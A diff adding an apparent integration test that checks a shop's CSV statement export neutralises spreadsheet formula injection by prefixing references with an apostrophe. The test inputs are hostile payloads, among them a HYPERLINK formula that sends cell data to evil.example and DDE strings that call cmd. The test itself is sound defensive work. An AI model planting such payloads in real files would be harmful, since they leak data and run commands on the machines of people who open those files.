@@ -197,6 +197,40 @@ async def test_the_csv_statement_has_the_same_figures_in_minutes_and_words(
             assert account not in answer.text
 
 
+async def test_the_csv_statement_writes_references_a_spreadsheet_would_run_as_text(
+    database_url: str,
+) -> None:
+    # A reference must be printable (a tab or carriage return is text_invalid), so these four
+    # are what reaches one; the unit tests hold names to all six.
+    formulas = [
+        '=HYPERLINK("http://evil.example/?"&A2,"klik")',
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ]
+    async with open_world(database_url) as world:
+        first, *_ = [a_payment(world, 60, reference=reference) for reference in formulas]
+        a_payment(world, 45, member=1, reference="code:123456")
+        await refund(world, first.id, 30)
+
+        answer = await world.get(
+            f"/api/v1/shops/{world.shop}/statement.csv",
+            as_=world.shop_staff,
+            params={"period": NOVEMBER, "language": "en"},
+        )
+
+        assert answer.status_code == 200, answer.text
+        records = list(csv.DictReader(io.StringIO(answer.text)))
+        entries = [r for r in records if r["record"] == "entry"]
+        assert [(r["kind"], r["amount_minutes"], r["reference"], r["name"]) for r in entries] == [
+            *(("redemption", "60", "'" + reference, "Member 0") for reference in formulas),
+            ("redemption", "45", "code:123456", "Member 1"),
+            ("refund", "-30", "'" + formulas[0], "Member 0"),
+        ]
+        closing = next(r for r in records if r["record"] == "closing_balance")
+        assert closing["amount_minutes"] == str(4 * 60 + 45 - 30)
+
+
 async def test_an_erased_members_name_is_gone_from_the_statement(sqlite_url: str) -> None:
     async with open_world(sqlite_url) as world:
         await a_month_of_trade(world)
